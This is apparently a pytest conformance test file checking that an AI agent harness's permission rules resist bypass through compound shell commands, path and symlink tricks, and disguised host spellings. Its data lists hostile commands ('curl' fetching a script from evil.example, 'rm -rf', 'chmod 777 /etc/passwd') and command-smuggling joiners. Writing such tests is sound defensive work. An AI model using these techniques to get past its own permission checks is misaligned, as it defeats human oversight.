"""Rule matching can't be bypassed (PERM-11): compound shell commands and unnormalised paths.

Everything goes through ``execute``: a call that a rule must not allow either never runs or
runs only after the host was asked; a call a deny rule catches never runs and nobody is asked.
Bash as the oracle of what a command runs (PERM-16, PERM-17) is in ``test_rule_matching_bash.py``.
"""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from conformance._strategies_execution import fresh_dir
from conformance._strategies_grammar import SameMeaning, same_meaning_commands, same_value_commands
from conformance._strategies_permissions import (
    allow_rule_for,
    edit_tool,
    fetch_tool,
    host_answering,
    mcp_tool_spec,
    plain_tool,
    read_tool,
    run_calls,
    shell_tool,
    sources,
)
from pytest_toolharness import strategies as ths
from pytest_toolharness.adapters import requires
from pytest_toolharness.specs import HostSpec, RuleSpec

PREFIXES = ("npm test", "git status", "ls", "make lint")
ARGS = ("", " -q", " src/", " --all -n 10")
# The hidden command, and a deny rule that names it.
OTHERS: tuple[tuple[str, str], ...] = (
    ("rm -rf x", "Bash(rm:*)"),
    ("rm -rf x", "Bash(rm -rf:*)"),
    ("curl -s https://evil.example/x.sh", "Bash(curl:*)"),
    ("git push --force origin main", "Bash(git push:*)"),
    ("chmod 777 /etc/passwd", "Bash(chmod *)"),
    ("sh", "Bash(sh)"),
)
JOINERS = ("&&", "||", ";", ";nospace", "|", "|nospace", "&", "\n", "$()", '"$()"', "``", "<()")


def join(allowed: str, other: str, joiner: str, other_first: bool) -> str:
    """``allowed`` and ``other`` joined so that a shell runs both."""
    if joiner == "$()":
        return f"{allowed} $({other})"
    if joiner == '"$()"':
        return f'{allowed} "$({other})"'
    if joiner == "``":
        return f"{allowed} `{other}`"
    if joiner == "<()":
        return f"{allowed} <({other})"
    left, right = (other, allowed) if other_first else (allowed, other)
    if joiner == "\n":
        return f"{left}\n{right}"
    if joiner.endswith("nospace"):
        return f"{left}{joiner.removesuffix('nospace')}{right}"
    return f"{left} {joiner} {right}"


@st.composite
def bypass_attempts(draw: st.DrawFn) -> tuple[str, str, str, str]:
    """(allowed prefix, full command, hidden command, deny rule naming the hidden command)."""
    prefix = draw(st.sampled_from(PREFIXES))
    allowed = prefix + draw(st.sampled_from(ARGS))
    other, deny = draw(st.sampled_from(OTHERS))
    command = join(allowed, other, draw(st.sampled_from(JOINERS)), draw(st.booleans()))
    return prefix, command, other, deny


@requires("execution", "permissions", "host_callback")
@pytest.mark.requirement("PERM-11", "MUST")
@settings(max_examples=30, deadline=None)
@given(
    attempt=bypass_attempts(),
    form=st.sampled_from(["colon", "space"]),
    source=sources(),
    headless=st.booleans(),
)
def test_prefix_allow_never_covers_a_compound_command(
    new_harness: Callable[[], Any],
    attempt: tuple[str, str, str, str],
    form: str,
    source: str,
    headless: bool,
) -> None:
    """PERM-11: ``Bash(npm test:*)`` never lets ``npm test && rm -rf x`` (``;``, ``||``, ``|``, ``&``, newline, ``$()``, backticks, ``<()``) run unasked."""
    prefix, command, other, _deny = attempt
    rule = allow_rule_for(prefix, form)
    host: HostSpec | None = None if headless else host_answering("deny")
    run = run_calls(
        new_harness(),
        [shell_tool()],
        [("Bash", {"command": command})],
        rules=[RuleSpec(rule, "allow", source)],
        host=host,
    )
    assert run.ran() == 0, (
        f"allow rule {rule!r} let the compound command {command!r} run (hidden part {other!r}); {run.describe()}"
    )
    if host is not None:
        assert len(run.asked) == 1, (
            f"allow rule {rule!r} does not cover {command!r}: the host should have been asked; {run.describe()}"
        )


@requires("execution", "permissions")
@pytest.mark.requirement("PERM-11", "MUST")
@settings(max_examples=15, deadline=None)
@given(
    command=st.sampled_from(PREFIXES).flatmap(lambda p: st.tuples(st.just(p), st.sampled_from(ARGS))),
    form=st.sampled_from(["colon", "space"]),
)
def test_prefix_allow_still_allows_the_plain_command(
    new_harness: Callable[[], Any], command: tuple[str, str], form: str
) -> None:
    """PERM-11 (control for the bypass test): ``Bash(npm test:*)`` does allow ``npm test`` and ``npm test -q`` alone."""
    prefix, args = command
    rule = allow_rule_for(prefix, form)
    host = host_answering("deny")
    run = run_calls(
        new_harness(),
        [shell_tool()],
        [("Bash", {"command": prefix + args})],
        rules=[RuleSpec(rule, "allow")],
        host=host,
    )
    assert (run.ran(), run.asked) == (1, []), f"{rule!r} must allow {prefix + args!r}: {run.describe()}"


# Arguments, and redirections that change nothing bash runs, an allowed command may carry; globs
# only for ls (npm and make hand their arguments to project scripts, where a file name may be anything).
_WORDS = ("-q", "src/", "--all", "-n", "10")
_GLOBS = ("src/*", "*.md")
_HARMLESS_REDIRECTIONS = (
    ">/dev/null",
    "2>/dev/null",
    "2>&1",
    "</dev/null",
    "&>/dev/null",
    ">&2",
    ">>/dev/null",
)


def _in_pieces(draw: st.DrawFn, word: str) -> str:
    r"""``word`` as a quoted piece and an escaped rest, one word to bash (``''\src/*``, ``'-'\q``)."""
    cut = draw(st.integers(min_value=0, max_value=len(word) - 1))
    quote = draw(st.sampled_from(("'", '"')))
    return f"{quote}{word[:cut]}{quote}\\{word[cut:]}"


@st.composite
def _plainly_allowed(draw: st.DrawFn) -> tuple[str, str]:
    """(prefix, line): the prefix's command, its arguments written any way bash reads alike, harmless redirections among them."""
    words = [draw(st.sampled_from(PREFIXES))]
    pool = _WORDS + _GLOBS + _GLOBS if words[0] == "ls" else _WORDS
    for word in draw(st.lists(st.sampled_from(pool), max_size=3)):
        if draw(st.booleans()):
            words.append(draw(st.sampled_from(_HARMLESS_REDIRECTIONS)))  # the words after it are arguments
        how = draw(st.integers(min_value=0, max_value=2))
        words.append(
            word if how == 0 else draw(ths.shell_quotings(word)) if how == 1 else _in_pieces(draw, word)
        )
    if draw(st.booleans()):
        words.append(draw(st.sampled_from(_HARMLESS_REDIRECTIONS)))
    return words[0], " ".join(words)


@requires("execution", "permissions")
@pytest.mark.requirement("PERM-16", "MUST")
@settings(max_examples=80, deadline=None)
@given(case=_plainly_allowed(), form=st.sampled_from(["colon", "space"]))
def test_prefix_allow_covers_its_command_however_its_words_are_written(
    new_harness: Callable[[], Any], case: tuple[str, str], form: str
) -> None:
    r"""PERM-16 (no false ask): ``Bash(npm test:*)`` allows ``npm test`` with any arguments, however written.

    Quoted, ANSI-C, in pieces (``''\src/*``), globbed (for ls), with redirections that change nothing bash runs
    (``>/dev/null``, ``2>&1``, ``</dev/null``) between or after them: bash runs the one command the
    rule covers, so nobody is asked.
    """
    prefix, line = case
    rule = allow_rule_for(prefix, form)
    run = run_calls(
        new_harness(),
        [shell_tool()],
        [("Bash", {"command": line})],
        rules=[RuleSpec(rule, "allow")],
        host=host_answering("deny"),
    )
    assert (run.ran(), run.asked) == (1, []), f"{rule!r} must allow {line!r}: {run.describe()}"


@requires("execution", "permissions", "host_callback")
@pytest.mark.requirement("PERM-11", "MUST")
@settings(max_examples=30, deadline=None)
@given(
    attempt=bypass_attempts(),
    form=st.sampled_from(["colon", "space"]),
    source=sources(),
    mode=st.sampled_from(["default", "acceptEdits", "bypassPermissions", "dontAsk"]),
)
def test_deny_rule_applies_to_any_part(
    new_harness: Callable[[], Any],
    attempt: tuple[str, str, str, str],
    form: str,
    source: str,
    mode: str,
) -> None:
    """PERM-11: a deny rule for the hidden command denies the whole compound command, beside an allow rule for the visible part, in any mode."""
    prefix, command, other, deny = attempt
    rules = [RuleSpec(allow_rule_for(prefix, form), "allow", source), RuleSpec(deny, "deny", source)]
    run = run_calls(
        new_harness(),
        [shell_tool()],
        [("Bash", {"command": command})],
        rules=rules,
        mode=mode,
        host=host_answering("allow"),
    )
    assert run.ran() == 0, (
        f"deny rule {deny!r} missed {other!r} inside {command!r} ({mode}); {run.describe()}"
    )
    assert run.asked == [], (
        f"deny rule {deny!r} matched {command!r}: the host must not be asked; {run.describe()}"
    )


def _project() -> Path:
    """A working directory with ``.env``, ``src/app.py`` and an outside sibling file."""
    root = fresh_dir()
    cwd = root / "project"
    (cwd / "src").mkdir(parents=True)
    (cwd / ".env").write_text("SECRET=1\n", encoding="utf-8")
    (cwd / "src" / "app.py").write_text("print(1)\n", encoding="utf-8")
    (root / "outside.txt").write_text("x\n", encoding="utf-8")
    return cwd


@st.composite
def env_spellings(draw: st.DrawFn) -> tuple[str, bool]:
    """(a spelling of ``.env``, whether it is absolute: to be prefixed with the working directory)."""
    if draw(st.booleans()):
        return draw(
            st.sampled_from(["./a/../.env", ".//.env", ".env", "src/../.env", "./src/./../.env"])
        ), False
    if draw(st.booleans()):
        return draw(ths.path_variants(".env")), False
    return draw(st.sampled_from(["/.env", "//.env", "/src/../.env", "/./.env"])), True


@requires("execution", "permissions", "host_callback")
@pytest.mark.requirement("PERM-11", "MUST")
@settings(max_examples=30, deadline=None)
@given(
    spelling=env_spellings(),
    kind=st.sampled_from(["read", "edit"]),
    rule_form=st.sampled_from(["./.env", ".env"]),
    mode=st.sampled_from(["default", "acceptEdits", "bypassPermissions"]),
    source=sources(),
)
def test_path_deny_matches_every_spelling_of_the_path(
    new_harness: Callable[[], Any],
    spelling: tuple[str, bool],
    kind: str,
    rule_form: str,
    mode: str,
    source: str,
) -> None:
    """PERM-11: ``Read(./.env)`` / ``Edit(./.env)`` deny catches ``./a/../.env``, ``.//.env`` and the absolute path of the same file."""
    cwd = _project()
    text, absolute = spelling
    path = f"{cwd}{text}" if absolute else text
    tool = read_tool() if kind == "read" else edit_tool()
    rules = [RuleSpec(f"{tool.name}({rule_form})", "deny", source), RuleSpec(tool.name, "allow", source)]
    run = run_calls(
        new_harness(),
        [tool],
        [(tool.name, {"file_path": path})],
        rules=rules,
        mode=mode,
        host=host_answering("allow"),
        cwd=cwd,
    )
    assert run.ran() == 0, (
        f"{rules[0].text} deny did not catch {path!r} (cwd {cwd}, {mode}); {run.describe()}"
    )
    assert run.asked == [], (
        f"{rules[0].text} deny matched {path!r}: the host must not be asked; {run.describe()}"
    )


@requires("execution", "permissions", "host_callback")
@pytest.mark.requirement("PERM-11", "MUST")
@settings(max_examples=30, deadline=None)
@given(
    target=st.sampled_from(["src/../.env", "src/../../outside.txt", "src/app.py", "src/new.txt"]),
    data=st.data(),
)
def test_path_allow_matches_only_the_normalised_path(
    new_harness: Callable[[], Any], target: str, data: st.DataObject
) -> None:
    """PERM-11: ``Edit(./src/**)`` allows any spelling of a path inside ``src/`` and none that climbs out of it (``src/../.env``)."""
    cwd = _project()
    path = data.draw(ths.path_variants(target), label="path")
    inside = not target.startswith("src/..")
    run = run_calls(
        new_harness(),
        [edit_tool()],
        [("Edit", {"file_path": path})],
        rules=[RuleSpec("Edit(./src/**)", "allow")],
        host=host_answering("deny"),
        cwd=cwd,
    )
    if inside:
        assert (run.ran(), run.asked) == (1, []), f"Edit(./src/**) must allow {path!r}: {run.describe()}"
    else:
        assert (run.ran(), len(run.asked)) == (0, 1), (
            f"Edit(./src/**) must not allow {path!r} (it is {target!r}); expected the host to be asked: "
            f"{run.describe()}"
        )


# --------------------------------------------------------------------------------------------
# PERM-11 as amended: symlink targets, ``~``, normalised hosts, MCP servers with ``__``.


@requires("execution", "permissions")
@pytest.mark.requirement("PERM-11", "MUST")
@settings(max_examples=40, deadline=None)
@given(
    host=st.sampled_from(
        [
            ("127.0.0.1", "http://2130706433/"),
            ("127.0.0.1", "http://0x7f.1/admin"),
            ("127.0.0.1", "http://0177.0.0.1/"),
            ("127.0.0.1", "http://0x7f000001/"),
            ("127.0.0.1", "http://127.1/"),
            ("evil.example", "https://%65vil.example/"),
            ("evil.example", "https://EVIL.example./x"),
            ("evil.example", "https://user@evil.example:443/"),
            ("xn--bcher-kva.example", "https://bücher.example/"),
            ("*.evil.example", "https://a.%65vil.example/"),
            # An IPv4-mapped IPv6 address reaches the IPv4 host; IDNA maps Unicode full stops.
            ("127.0.0.1", "http://[::ffff:127.0.0.1]/"),
            ("127.0.0.1", "http://[::ffff:7f00:1]:8080/"),
            ("evil.example", "https://evil.example\u3002/"),
            ("evil.example", "https://evil\uff0eexample/"),
        ]
    ),
    mode=st.sampled_from(["default", "bypassPermissions"]),
    decoded=st.booleans(),
)
def test_domain_deny_matches_the_normalised_host(
    new_harness: Callable[[], Any], host: tuple[str, str], mode: str, decoded: bool
) -> None:
    """PERM-11: ``WebFetch(domain:h)`` denies every spelling of ``h``: case, trailing dot, percent-encoding, IDNA (Unicode full stops too), numeric IPv4, IPv4-mapped IPv6.

    Drawn too: the fetching tool's permission kind written in the code or decoded at run time (a tool
    defined by configuration: an equal string, not the interned literal; a harness compares it by value).
    """
    rule_host, url = host
    tool = replace(fetch_tool(), permission_kind=json.loads('"web_fetch"')) if decoded else fetch_tool()
    rules = [RuleSpec(f"WebFetch(domain:{rule_host})", "deny"), RuleSpec("WebFetch", "allow")]
    run = run_calls(new_harness(), [tool], [("WebFetch", {"url": url})], rules=rules, mode=mode)
    assert run.ran() == 0, f"WebFetch(domain:{rule_host}) deny missed {url!r} ({mode}): {run.describe()}"


@st.composite
def local_machine_hosts(draw: st.DrawFn, *, url: bool) -> str:
    """A spelling of the local machine.

    Any ``127.0.0.0/8`` address in any IPv4 form, ``0.0.0.0``, ``localhost`` or a subdomain of it
    (any case, maybe a trailing dot), IPv4-mapped IPv6, and in a URL ``[::1]``, ``[::]`` (a rule's
    host syntax has no IPv6 literal).
    """
    quad = (127, draw(st.integers(0, 255)), draw(st.integers(0, 255)), draw(st.integers(1, 254)))
    if draw(st.booleans()):
        quad = (0, 0, 0, 0)
    number = int.from_bytes(bytes(quad), "big")
    forms = [
        ".".join(map(str, quad)),
        str(number),
        hex(number),
        ".".join(oct(part).replace("0o", "0") for part in quad),
        f"{quad[0]}.{number & 0xFFFFFF}",
        f"[::ffff:{'.'.join(map(str, quad))}]",
    ]
    label = draw(st.sampled_from(["", "a.", "app.", "x-1.b."]))
    name = "".join(draw(st.sampled_from([c, c.upper()])) for c in f"{label}localhost")
    forms.append(name + draw(st.sampled_from(["", "."])))
    if url:
        forms += ["[::1]", "[::]", "[0:0:0:0:0:0:0:1]"]
        # The address in IPv6's other spellings: mapped with hex words or in full, and IPv4-compatible
        # (RFC 4291 2.5.5.1, deprecated; some stacks route it to the IPv4 host).
        dotted = ".".join(map(str, quad))
        forms += [f"[::ffff:{number >> 16:x}:{number & 0xFFFF:x}]", f"[0:0:0:0:0:ffff:{dotted}]"]
        forms += [f"[::{dotted}]", f"[::{number >> 16:x}:{number & 0xFFFF:x}]"]
    return draw(st.sampled_from(forms))


@requires("execution", "permissions")
@pytest.mark.requirement("PERM-11", "MUST")
@settings(max_examples=40, deadline=None)
@given(
    rule_host=local_machine_hosts(url=False),
    url_host=local_machine_hosts(url=True),
    wildcard=st.booleans(),
    mode=st.sampled_from(["default", "bypassPermissions"]),
)
@example(rule_host="localhost", url_host="[::127.0.0.1]", wildcard=False, mode="default")
def test_domain_deny_of_the_local_machine_matches_every_spelling_of_it(
    new_harness: Callable[[], Any], rule_host: str, url_host: str, wildcard: bool, mode: str
) -> None:
    """PERM-11: a ``WebFetch(domain:...)`` deny naming the local machine denies every other spelling of it.

    ``http://0.0.0.0:8080/``, ``http://[::1]/``, ``http://127.9.9.9/`` and ``http://a.localhost/`` reach
    the services on the local machine as ``127.0.0.1`` and ``localhost`` do (tests/test_rules.py shows
    curl reaching one listener by each): composed, every rule spelling against every URL spelling.
    """
    if wildcard and rule_host.rstrip(".").lower().endswith("localhost"):
        rule_host = "*." + rule_host
    rules = [RuleSpec(f"WebFetch(domain:{rule_host})", "deny"), RuleSpec("WebFetch", "allow")]
    url = f"http://{url_host}:8080/admin"
    run = run_calls(new_harness(), [fetch_tool()], [("WebFetch", {"url": url})], rules=rules, mode=mode)
    assert run.ran() == 0, f"WebFetch(domain:{rule_host}) deny missed {url!r} ({mode}): {run.describe()}"


@requires("execution", "permissions")
@pytest.mark.requirement("PERM-11", "MUST")
@settings(max_examples=16, deadline=None)
@given(
    kind=st.sampled_from(["symlink", "hardlink", "tilde"]),
    mode=st.sampled_from(["default", "bypassPermissions"]),
    rule_form=st.sampled_from(["./.env", ".env"]),
)
def test_path_deny_follows_symlinks_and_tilde(
    new_harness: Callable[[], Any], kind: str, mode: str, rule_form: str
) -> None:
    """PERM-11: ``Read(./.env)`` denies a symlink to ``.env`` and a hard link to it (the same file by another name); ``Read(~/secret)`` denies ``$HOME/secret`` however written."""
    cwd = _project()
    if kind in ("symlink", "hardlink"):
        if kind == "symlink":
            (cwd / "innocent.txt").symlink_to(cwd / ".env")
        else:
            os.link(cwd / ".env", cwd / "innocent.txt")
        rule, path = f"Read({rule_form})", "innocent.txt"
    else:
        rule, path = "Read(~/secret-of-the-suite)", str(Path.home() / "secret-of-the-suite")
    rules = [RuleSpec(rule, "deny"), RuleSpec("Read", "allow")]
    run = run_calls(
        new_harness(), [read_tool()], [("Read", {"file_path": path})], rules=rules, mode=mode, cwd=cwd
    )
    assert run.ran() == 0, f"{rule} deny missed {path!r} ({mode}): {run.describe()}"


# Deny patterns of every shape that cover ``secret/sub/key.pem`` (``{abs}`` is the project's absolute path).
_SECRET_PATTERNS = (
    "./secret/sub/key.pem", "secret/**", "./secret", "secret/", "secret/*/key.pem", "**/key.pem",
    "key.pem", "*.pem", "secret/**/*.pem", "//{abs}/secret/**", "/secret/sub", "secret/su[b]/*",
)  # fmt: skip


@requires("execution", "permissions")
@pytest.mark.requirement("PERM-11", "MUST")
@settings(max_examples=40, deadline=None)
@given(
    pattern=st.sampled_from(_SECRET_PATTERNS),
    family=st.sampled_from(["Read", "Edit"]),
    link=st.sampled_from(["notes.txt", "src/notes.md", "../beside.txt"]),
    mode=st.sampled_from(["default", "acceptEdits", "bypassPermissions"]),
)
def test_path_deny_of_any_shape_catches_a_hard_link_to_a_file_it_covers(
    new_harness: Callable[[], Any], pattern: str, family: str, link: str, mode: str
) -> None:
    """PERM-11: a hard link is a file the deny covers under another name, whatever the pattern's shape.

    ``ln secret/sub/key.pem notes.txt``: ``Read(secret/**)``, ``Read(*.pem)``, ``Read(key.pem)`` (at
    any depth), ``Edit(./secret)``... deny reading or editing ``notes.txt``, in every mode, as they
    deny ``secret/sub/key.pem`` itself: the same inode, not only a pattern naming one literal file.
    """
    cwd = _project()
    secret = cwd / "secret" / "sub" / "key.pem"
    secret.parent.mkdir(parents=True)
    secret.write_text("-----BEGIN KEY-----\n", encoding="utf-8")
    os.link(secret, cwd / link)
    rule = f"{family}({pattern.format(abs=str(cwd).lstrip('/'))})"
    tool = read_tool() if family == "Read" else edit_tool()
    rules = [RuleSpec(rule, "deny"), RuleSpec(family, "allow")]
    run = run_calls(new_harness(), [tool], [(family, {"file_path": link})], rules=rules, mode=mode, cwd=cwd)
    assert run.ran() == 0, f"{rule} deny missed {link!r}, a hard link to {secret} ({mode}): {run.describe()}"


@requires("execution", "permissions")
@pytest.mark.requirement("PERM-11", "MUST")
@settings(max_examples=10, deadline=None)
@given(
    rule=st.sampled_from(["mcp__my__server", "mcp__my__server__*", "mcp__my__server__run"]),
    by_name_only=st.booleans(),
)
def test_mcp_rule_for_a_server_whose_name_contains_double_underscore(
    new_harness: Callable[[], Any], rule: str, by_name_only: bool
) -> None:
    """PERM-11: ``mcp__my__server`` denies the tools of server ``my__server`` (the name is not split at its first ``__``).

    Also a tool the harness knows only by its MCP-shaped name (registered as a tool of its own, not
    through an MCP server): a deny is broad, so a rule naming the server its name reads as still catches it.
    """
    tool = mcp_tool_spec("my__server", "run")
    if by_name_only:
        tool = plain_tool(tool.name)
    run = run_calls(
        new_harness(), [tool], [(tool.name, {})], rules=[RuleSpec(rule, "deny")], mode="bypassPermissions"
    )
    known = "by its name only" if by_name_only else "as an MCP tool"
    assert run.ran() == 0, f"{rule} deny missed {tool.name} (known {known}): {run.describe()}"


# A domain allow rule lets through only a URL whose host it reads with certainty as its own; whatever it
# can't read (another scheme, a backslash, a percent-encoded delimiter, a port that is no port, IDNA 2003
# and 2008 disagreeing) goes to the host. (rule host, URL, whether the rule allows it.)
DOMAIN_ALLOW_CASES: tuple[tuple[str, str, bool], ...] = (
    ("evil.example", "https://evil.example/x", True),
    ("evil.example", "https://EVIL.example./x", True),
    ("evil.example", "https://%65vil.example/", True),
    ("evil.example", "https://user@evil.example:443/", True),
    ("127.0.0.1", "http://[::ffff:127.0.0.1]:8080/", True),
    ("127.0.0.1", "http://0x7f.1/", True),
    ("xn--bcher-kva.example", "https://bücher.example/", True),
    ("evil.example", "https://evil\uff0eexample/", True),
    ("evil.example", "https://\uff45vil.example/", True),
    ("*.evil.example", "https://a.b.evil.example/", True),
    ("evil.example", "https://evil.example.attacker.test/", False),
    ("evil.example", "https://attacker.test/?evil.example", False),
    ("evil.example", "ftp://evil.example/", False),
    ("evil.example", "https://evil.example\\@attacker.test/", False),
    ("evil.example", "https://evil.example:80:90/", False),
    ("*.evil.example", "https://evil.example/", False),
    ("*.evil.example", "https://attacker.test%2f.evil.example/", False),
    ("*.evil.example", "https://attacker.test%40.evil.example/", False),
    # IDNA 2003 reads ``faß`` as ``fass``, IDNA 2008 as ``xn--fa-hia``: neither is certain.
    ("fass.example", "https://faß.example/", False),
    ("xn--fa-hia.example", "https://faß.example/", False),
    ("zss.example", "https://zß.example/", False),
    ("evil.example", "http://[evil.example/", False),
)


@requires("execution", "permissions", "host_callback")
@pytest.mark.requirement("PERM-11", "MUST")
@settings(max_examples=40, deadline=None)
@given(case=st.sampled_from(DOMAIN_ALLOW_CASES))
def test_domain_allow_covers_only_the_hosts_it_reads_with_certainty(
    new_harness: Callable[[], Any], case: tuple[str, str, bool]
) -> None:
    """PERM-11: ``WebFetch(domain:h)`` allows every spelling of ``h`` (and ``*.h`` its subdomains) unasked, and never a URL whose host it can't read with certainty: that goes to the host."""
    rule_host, url, allowed = case
    rule = f"WebFetch(domain:{rule_host})"
    run = run_calls(
        new_harness(),
        [fetch_tool()],
        [("WebFetch", {"url": url})],
        rules=[RuleSpec(rule, "allow")],
        host=host_answering("deny"),
    )
    if allowed:
        assert (run.ran(), run.asked) == (1, []), f"{rule} allow must allow {url!r}: {run.describe()}"
    else:
        assert (run.ran(), len(run.asked)) == (0, 1), (
            f"{rule} allow must not allow {url!r}; expected the host to be asked: {run.describe()}"
        )


@requires("execution", "permissions")
@pytest.mark.requirement("PERM-11", "MUST")
@settings(max_examples=20, deadline=None)
@given(
    url=st.sampled_from(
        [
            "https://evil.example%3a1%5d/",
            "https://evil.example:80:90/",
            "https://evil.example\\@other.test/",
            "https://faß.example/",
            "https://ev%00il.example/",
        ]
    ),
    rule_host=st.sampled_from(["evil.example", "*.example"]),
)
def test_domain_deny_catches_a_host_it_cannot_read(
    new_harness: Callable[[], Any], url: str, rule_host: str
) -> None:
    """PERM-11: a ``WebFetch(domain:...)`` deny rule fails closed: a URL whose host it can't read with certainty is denied."""
    rules = [RuleSpec(f"WebFetch(domain:{rule_host})", "deny"), RuleSpec("WebFetch", "allow")]
    run = run_calls(new_harness(), [fetch_tool()], [("WebFetch", {"url": url})], rules=rules)
    assert run.ran() == 0, f"WebFetch(domain:{rule_host}) deny let {url!r} run: {run.describe()}"


@requires("execution", "permissions", "host_callback")
@pytest.mark.requirement("PERM-11", "MUST")
@settings(max_examples=24, deadline=None)
@given(
    # Names on both sides of the built-in families (Bash, Read, Edit, WebFetch) in byte order; never
    # a built-in name whose content means something else (``Write`` is a path, ``WebSearch`` has none).
    name=st.sampled_from(["Agent", "Lookup", "Task", "Webhook", "Zeta", "query_db"]),
    value=st.sampled_from(["secret", "a  b", "x(1)", "x:*yz"]),
)
def test_content_rule_of_any_tool_matches_its_exact_target(
    new_harness: Callable[[], Any], name: str, value: str
) -> None:
    """PERM-11: ``Tool(value)`` of a tool outside the shell, path and URL families loads and matches its target exactly: its deny stops that value alone, beside the tool's allow."""
    tool = replace(plain_tool(name), permission_kind="other", permission_field="x")
    content = value.replace("(", "\\(").replace(")", "\\)")
    rules = [RuleSpec(f"{name}({content})", "deny"), RuleSpec(name, "allow")]
    run = run_calls(
        new_harness(),
        [tool],
        [(name, {"x": value}), (name, {"x": f"{value}-other"})],
        rules=rules,
        host=host_answering("deny"),
    )
    assert (run.ran("toolu_1"), run.ran("toolu_2"), run.asked) == (0, 1, []), (
        f"{rules[0].text} must deny {value!r} alone and {name} allow the rest: {run.describe()}"
    )


@requires("execution", "permissions")
@pytest.mark.requirement("PERM-17", "MUST")
@settings(max_examples=60, deadline=None)
@given(case=same_meaning_commands(), mode=st.sampled_from(["default", "acceptEdits", "bypassPermissions"]))
def test_deny_rule_meets_every_spelling_the_program_reads_alike(
    new_harness: Callable[[], Any], case: SameMeaning, mode: str
) -> None:
    """PERM-17: a deny rule naming options or a subcommand refuses every command with that effect.

    The program defines "the same": ``Bash(rm -rf:*)`` names remove-recursively-by-force, which
    ``rm --recursive --force d``, ``rm -r -f d``, ``rm --rec -f d`` and ``rm d -fr`` all do (GNU
    getopt: long forms and their unambiguous prefixes, bundles, any order, options after the
    operand); ``Bash(git push:*)`` names a push, which ``git -C . push`` and ``git --no-pager -c k=v
    push`` are (git's global options, from its usage line); npm's aliases run the same command
    (npm's own table). The spellings are read live from each program's ``--help``, usage and command
    table. Beside an allow rule for the whole program, in any mode, the command must not run.
    """
    _assert_refused_beside_allow(new_harness(), case, mode)


@requires("execution", "permissions")
@pytest.mark.requirement("PERM-17", "MUST")
@settings(max_examples=60, deadline=None)
@given(case=same_value_commands(), mode=st.sampled_from(["default", "acceptEdits", "bypassPermissions"]))
def test_deny_rule_meets_every_value_the_program_reads_alike(
    new_harness: Callable[[], Any], case: SameMeaning, mode: str
) -> None:
    """PERM-17: a deny rule naming a value refuses the command spelling it otherwise, as the program reads it.

    ``Bash(chmod 777:*)`` names a mode, which ``chmod 0777``, ``chmod a+rwx``, ``chmod ugo=rwx`` and
    ``chmod u=rwx,g=rwx,o=rwx`` also leave (real chmod is the judge, from a file with no bits and one
    with all); ``Bash(rm -rf /tmp/d:*)`` names a file, which ``/tmp//d``, ``/tmp/./d``, ``/tmp/x/../d``
    also name; ``Bash(git push --force:*)`` names a forced push, which ``git push origin +main`` and
    ``git push --mirror`` also are (git-push(1): a ``+`` refspec "is the same as --force" for it).
    Beside an allow rule for the whole program, in any mode, the command must not run.
    """
    _assert_refused_beside_allow(new_harness(), case, mode)


def _assert_refused_beside_allow(harness: Any, case: SameMeaning, mode: str) -> None:
    """The case's command does not run under its deny rule beside an allow rule for the whole program."""
    rules = [RuleSpec(f"Bash({case.program}:*)", "allow"), RuleSpec(case.rule, "deny")]
    run = run_calls(harness, [shell_tool()], [("Bash", {"command": case.command})], rules=rules, mode=mode)
    assert run.ran() == 0, (
        f"{case.rule} ({mode}) let {case.command!r} run: the program reads it as what the rule names"
    )
